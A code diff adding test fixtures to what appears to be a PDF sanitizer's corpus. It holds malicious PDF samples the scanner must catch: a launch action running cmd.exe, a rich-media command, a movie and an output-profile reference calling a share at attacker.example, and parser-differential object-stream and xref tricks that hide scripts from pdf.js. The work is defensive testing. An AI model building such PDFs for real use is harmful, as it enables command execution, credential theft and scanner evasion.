@@ -98,6 +98,7 @@ import {
 } from '../../fixtures/active-ofd.ts';
 import {
   annotatedPage,
+  ascii85,
   bigImage,
   brokenPageTreePdf,
   buildClassicPdf,
@@ -111,6 +112,11 @@ import {
   incrementalUpdate,
   incrementalUpdateXrefStream,
   lengthDefinedTwicePdf,
+  ascii85ControlBytePdf,
+  predictorBpcPdf,
+  predictorShapePdf,
+  predictorShortRowPdf,
+  prevWrittenTwicePdf,
   linearizedElsewherePdf,
   linkAnnotations,
   objectStreamRedefinedPdf,
@@ -791,6 +797,39 @@ const huntedPdfs: CorpusItem[] = [
   // The catalog's object stream redefined by an update as no object stream: pdf.js rebuilds, taking a hidden catalog.
   hunted('pdf-objstm-redefined-hidden-catalog', 'PDF_UNREADABLE', () =>
     objectStreamRedefinedPdf({ num: 7, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' }),
+  ),
+  // Object streams decoded otherwise than pdf.js decodes them, each with an opening script pdf.js reads (round 9).
+  hunted('pdf-objstm-predictor-short-last-row', 'PDF_SCRIPT', predictorShortRowPdf),
+  hunted('pdf-objstm-predictor-bpc', 'PDF_UNREADABLE', predictorBpcPdf),
+  hunted('pdf-objstm-filters-array-parameters-dictionary', 'PDF_UNREADABLE', predictorShapePdf),
+  hunted('pdf-objstm-ascii85-control-byte', 'PDF_UNREADABLE', ascii85ControlBytePdf),
+  // An output intent's profile kept in a share (PDF/X-5's /DestOutputProfileRef), by reference, packed, escaped.
+  hunted('pdf-output-profile-ref-urls-share', 'PDF_ACTION', () =>
+    buildPdf(
+      [
+        ...pageObjects('/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /DestOutputProfileRef 6 0 R >>]'),
+        {
+          num: 6,
+          body: `<< /ProfileName (ISO Coated v2) /URL#73 [<< /FS /URL /F (file://attacker.example/s/p.icc) >>] >>`,
+        },
+      ],
+      { packed: [6] },
+    ),
+  ),
+  // A /Prev written twice, the first into a table hidden in an image's data: read by a reader that keeps the first.
+  hunted('pdf-prev-written-twice-hidden-table', 'PDF_UNREADABLE', prevWrittenTwicePdf),
+  // Classes already refused, one item each: a launch for Windows, a rich-media command, a movie.
+  hunted('pdf-openaction-launch-win', 'PDF_SCRIPT', () =>
+    buildClassicPdf(pageObjects('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')),
+  ),
+  hunted('pdf-link-richmedia-execute', 'PDF_SCRIPT', () =>
+    buildClassicPdf(linkAnnotations('<< /S /RichMediaExecute /TA 3 0 R /CMD << /C (play) >> >>')),
+  ),
+  hunted('pdf-movie-annotation-share', 'PDF_ACTION', () =>
+    buildClassicPdf([
+      ...pageObjects('', '/Annots [6 0 R]'),
+      { num: 6, body: `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${UNC_FILE} >> /A true >>` },
+    ]),
   ),
 ];
 
@@ -2809,6 +2848,64 @@ export const ACTIVE_GENUINE: readonly {
           stream: Buffer.alloc(1),
         },
       ]),
+  },
+  // PDF/X-4 and PDF/A embed their output intent's profile: accepted, as is a PDF/X-5 one named without /URLs.
+  {
+    id: 'pdf-output-intent-embedded-profile',
+    declared: 'pdf',
+    bytes: async () =>
+      buildClassicPdf([
+        ...pageObjects(
+          '/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (FOGRA39) /RegistryName (http://www.color.org) /DestOutputProfile 6 0 R >>]',
+        ),
+        { num: 6, body: '/N 4', stream: Buffer.from('an ICC profile') },
+      ]),
+  },
+  {
+    id: 'pdf-output-intent-profile-ref-by-name',
+    declared: 'pdf',
+    bytes: async () =>
+      buildClassicPdf(
+        pageObjects(
+          '/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (FOGRA39) /DestOutputProfileRef << /ProfileName (ISO Coated v2) /ICCVersion <02100000> >> >>]',
+        ),
+      ),
+  },
+  // Object streams filtered as readers agree: parameters an array beside an array of filters, empty ones in either shape, ASCII85 with line ends.
+  {
+    id: 'pdf-objstm-filter-parameters-as-written',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(pageObjects('/OpenAction [3 0 R /Fit]'), {
+        packed: [1, 2, 3, 5],
+        encoder: (plain) => ['/Filter [/FlateDecode] /DecodeParms [null]', deflateSync(plain)],
+      }),
+  },
+  {
+    id: 'pdf-objstm-empty-parameters-other-shape',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(pageObjects(), {
+        packed: [1, 2, 3, 5],
+        encoder: (plain) => ['/Filter /FlateDecode /DecodeParms [<< >>]', deflateSync(plain)],
+      }),
+  },
+  {
+    id: 'pdf-objstm-ascii85-line-ends',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(pageObjects('/OpenAction [3 0 R /Fit]'), {
+        packed: [1, 2, 3, 5],
+        encoder: (plain) => [
+          '/Filter /ASCII85Decode',
+          Buffer.from(
+            ascii85(plain)
+              .toString('latin1')
+              .replace(/(.{20})/g, '$1\r\n \t'),
+            'latin1',
+          ),
+        ],
+      }),
   },
   { id: 'ofd-cover-in-package', declared: 'ofd', bytes: () => ofdCover('Doc_0/Res/cover.png') },
   { id: 'ofd-color-profile-in-package', declared: 'ofd', bytes: () => ofdColorProfile('/Doc_0/Res/sRGB.icc') },
